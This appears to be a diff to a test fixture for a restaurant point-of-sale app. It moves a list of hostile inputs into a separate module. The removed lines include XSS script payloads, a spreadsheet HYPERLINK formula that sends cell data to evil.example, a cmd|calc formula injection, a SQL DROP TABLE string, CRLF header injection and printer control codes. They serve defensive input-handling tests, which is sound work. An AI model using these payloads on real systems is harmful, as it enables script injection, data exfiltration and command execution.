@@ -7,64 +7,7 @@ import { openTill } from '../money/till.ts'
 import { type House, PASSWORD, type Person, post } from '../restaurant/house.ts'
 import { makeUser } from '../tenant.ts'
 import type { ApiClient, World } from '../world.ts'
-
-/** The property of `window` that a hostile script sets when it runs. */
-export const SCRIPT_RAN = 'ran'
-
-const SCRIPTS = [
-  `<script>window.${SCRIPT_RAN}=1</script>`,
-  `"><img src=x onerror=window.${SCRIPT_RAN}=1>`,
-  `'"><svg/onload=window.${SCRIPT_RAN}=1>`,
-  `</title></textarea></style></script><script>window.${SCRIPT_RAN}=1</script>`,
-  `javascript:window.${SCRIPT_RAN}=1//`,
-  `<a href="javascript:window.${SCRIPT_RAN}=1">Ver</a>`,
-  `<iframe srcdoc="<script>parent.${SCRIPT_RAN}=1</script>"></iframe>`,
-  `<img src="//evil.example/a.png"><link rel=stylesheet href=//evil.example/a.css>`,
-  `<style>*{display:none}</style><base href="//evil.example/">`,
-  `data:text/html,<script>window.${SCRIPT_RAN}=1</script>`,
-  `%3Cscript%3Ewindow.${SCRIPT_RAN}=1%3C/script%3E &lt;script&gt; &#x3c;script&#x3e;`,
-  `\${window.${SCRIPT_RAN}=1}{{constructor.constructor('window.${SCRIPT_RAN}=1')()}}<%= 7*7 %>#{7*7}`,
-]
-
-const FORMULAS = [
-  '=HYPERLINK("http://evil.example/?x="&A1,"Ver")',
-  '+506 2222-4455',
-  "-2+3+cmd|' /C calc'!A0",
-  '@SUM(1+1)*cmd',
-  '\u200b=1+1',
-]
-
-const WORDS = [
-  '__proto__',
-  'constructor',
-  'toString',
-  "'; DROP TABLE users; --",
-  '100 % _ \\ "fin"',
-]
-
-const LINES = [
-  'Uno\r\nSet-Cookie: robado=1\r\n\r\n{"level":60}',
-  'Dos\u2028tres\u2029cuatro\u0085cinco',
-  // Printer commands: open the drawer, cut, reset, and request the status.
-  'Caja\u001bp0\u0001 corte\u001dVA\u0003 nuevo\u001b@ estado\u0010\u0004\u0001',
-]
-
-const LETTERS = [
-  `Supercalifragilisticoespialidoso${'largo'.repeat(40)}`,
-  `\u202eodnauqse led otalp\u202d\u2066`,
-  `Ca\u200bfé\u200d con\ufeff \u2060leche`,
-  'Z̸̡̛̝͎̈́a̷̢͔̓́l̴̰͊g̵̨̋̈́o̶͖͑'.repeat(4),
-  '👩‍👩‍👧‍👦🏴‍☠️🇨🇷'.repeat(6),
-  'مطعم السلام 寿司 ไทย',
-]
-
-export const HOSTILE_TEXTS: readonly string[] = [
-  ...SCRIPTS,
-  ...FORMULAS,
-  ...WORDS,
-  ...LINES,
-  ...LETTERS,
-]
+import { createHostileWriter, type HostileWriter } from './hostile-texts.ts'
 
 export interface HostileHouse extends Pick<House, 'restaurant' | 'branch' | 'admin' | 'waiter'> {
   readonly superadmin: Person
@@ -99,33 +42,38 @@ async function makeFounder(world: World, name: string): Promise<Person> {
 async function writePaymentTexts(
   { admin, waiter }: Pick<HostileHouse, 'admin' | 'waiter'>,
   branchId: number,
-  texts: {
-    readonly referencia: string
-    readonly nota: string
-    readonly share: string
-    readonly drawer: { readonly nota: string }
-    readonly receipt: { readonly identificacion: string }
-    readonly voided: string
-    readonly cancelled: { readonly order: string; readonly line: string }
-    readonly discount: string
-    readonly courtesy: string
-    readonly undiscount: string
-    readonly waived: string
-    readonly part: string
-    readonly refunded: string
-    readonly restored: string
-    readonly changed: { readonly nota: string; readonly referencia: string }
-    readonly account: { readonly name: string; readonly tax_id: string }
-    readonly renamed: { readonly name: string; readonly tax_id: string }
-    readonly onAccount: { readonly referencia: string; readonly nota: string }
-    readonly unpaid: string
-    readonly closing: string
-    readonly moved: string
-    readonly unmoved: string
-    readonly discarded: string
-    readonly order: BodyInput<typeof calls.takeOrder>
-  },
+  { text, some, first }: HostileWriter,
+  ordered: BodyInput<typeof calls.takeOrder>,
 ): Promise<void> {
+  const texts = {
+    ...some('chargeBill.pagos[]', 'referencia'),
+    ...some('reversePayment', 'nota'),
+    share: text('planShares.partes[].name'),
+    receipt: first('receipt', 'identificacion'),
+    drawer: first('openDrawer', 'nota'),
+    voided: text('voidLine.nota'),
+    cancelled: { order: text('changeOrderStatus.nota'), line: text('changeLineStatus.nota') },
+    discount: text('giveDiscount.nota'),
+    courtesy: text('giveCourtesy.nota'),
+    undiscount: text('removeDiscount.nota'),
+    waived: text('waiveService.nota'),
+    part: text('splitBill.partes[].name'),
+    refunded: text('refundPayment.nota'),
+    restored: text('undoOrder.nota'),
+    changed: {
+      nota: text('changeMethod.nota'),
+      referencia: text('changeMethod.referencia'),
+    },
+    moved: text('moveCash.nota'),
+    unmoved: text('reverseMovement.nota'),
+    account: some('createHouseAccount', 'name', 'tax_id'),
+    renamed: some('updateHouseAccount', 'name', 'tax_id'),
+    onAccount: some('payOnAccount', 'nota', 'referencia'),
+    unpaid: text('reverseAccountPayment.nota'),
+    closing: text('closeRegister.nota'),
+    discarded: text('discardCash.motivo'),
+    order: ordered,
+  }
   const till = await openTill(admin.client, branchId)
   const { bill } = await post(waiter.client, calls.takeOrder, texts.order)
   const cancellation = { estado: 'Cancelado' as const, motivo: till.reasonOf('anulacion') }
@@ -252,37 +200,9 @@ async function writePaymentTexts(
   await post(waiter.client, calls.closeBill, { bill_id: bill.id })
 }
 
-/** Fields take the texts of `HOSTILE_TEXTS` in turn, starting at index `from`. */
-export async function openHostileHouse(world: World, from = 0): Promise<HostileHouse> {
-  const written = new Map<string, string>()
-  let at = from
-  const text = (field: string): string => {
-    const value = HOSTILE_TEXTS[at % HOSTILE_TEXTS.length] ?? ''
-    at += 1
-    written.set(field, value)
-    return value
-  }
-  const some = <Name extends string>(call: string, ...names: readonly Name[]) =>
-    Object.fromEntries(names.map((name) => [name, text(`${call}.${name}`)])) as Record<Name, string>
-  const named = (call: string) => ({
-    ...some(call, 'name', 'description', 'address'),
-    translations: (['en', 'pt', 'fr'] as const).map((language_code) => ({
-      language_code,
-      name: text(`${call}.translations[].name`),
-      description: text(`${call}.translations[].description`),
-      address: text(`${call}.translations[].address`),
-    })),
-  })
-
-  /** Fields take the first text, which is short. */
-  const first = <Name extends string>(call: string, ...names: readonly Name[]) =>
-    Object.fromEntries(
-      names.map((name) => {
-        const [value = ''] = HOSTILE_TEXTS
-        written.set(`${call}.${name}`, value)
-        return [name, value]
-      }),
-    ) as Record<Name, string>
+export async function openHostileHouse(world: World): Promise<HostileHouse> {
+  const writer = createHostileWriter()
+  const { written, text, some, first, named } = writer
   first('printBill', 'identificacion')
   first('sendReceipt', 'identificacion')
   const { name: founderName } = first('install', 'name')
@@ -485,34 +405,9 @@ export async function openHostileHouse(world: World, from = 0): Promise<HostileH
   })
   await post(await enter(second), calls.callWaiter, { mesa: second })
 
-  await writePaymentTexts({ admin, waiter }, branch.id, {
-    ...some('chargeBill.pagos[]', 'referencia'),
-    ...some('reversePayment', 'nota'),
-    share: text('planShares.partes[].name'),
-    receipt: first('receipt', 'identificacion'),
-    drawer: first('openDrawer', 'nota'),
-    voided: text('voidLine.nota'),
-    cancelled: { order: text('changeOrderStatus.nota'), line: text('changeLineStatus.nota') },
-    discount: text('giveDiscount.nota'),
-    courtesy: text('giveCourtesy.nota'),
-    undiscount: text('removeDiscount.nota'),
-    waived: text('waiveService.nota'),
-    part: text('splitBill.partes[].name'),
-    refunded: text('refundPayment.nota'),
-    restored: text('undoOrder.nota'),
-    changed: {
-      nota: text('changeMethod.nota'),
-      referencia: text('changeMethod.referencia'),
-    },
-    moved: text('moveCash.nota'),
-    unmoved: text('reverseMovement.nota'),
-    account: some('createHouseAccount', 'name', 'tax_id'),
-    renamed: some('updateHouseAccount', 'name', 'tax_id'),
-    onAccount: some('payOnAccount', 'nota', 'referencia'),
-    unpaid: text('reverseAccountPayment.nota'),
-    closing: text('closeRegister.nota'),
-    discarded: text('discardCash.motivo'),
-    order: { table_id: tables[3]?.id, products: [{ product_id: productIds[1] ?? 0, quantity: 2 }] },
+  await writePaymentTexts({ admin, waiter }, branch.id, writer, {
+    table_id: tables[3]?.id,
+    products: [{ product_id: productIds[1] ?? 0, quantity: 2 }],
   })
 
   const method = await post(admin.client, calls.createPaymentMethod, {
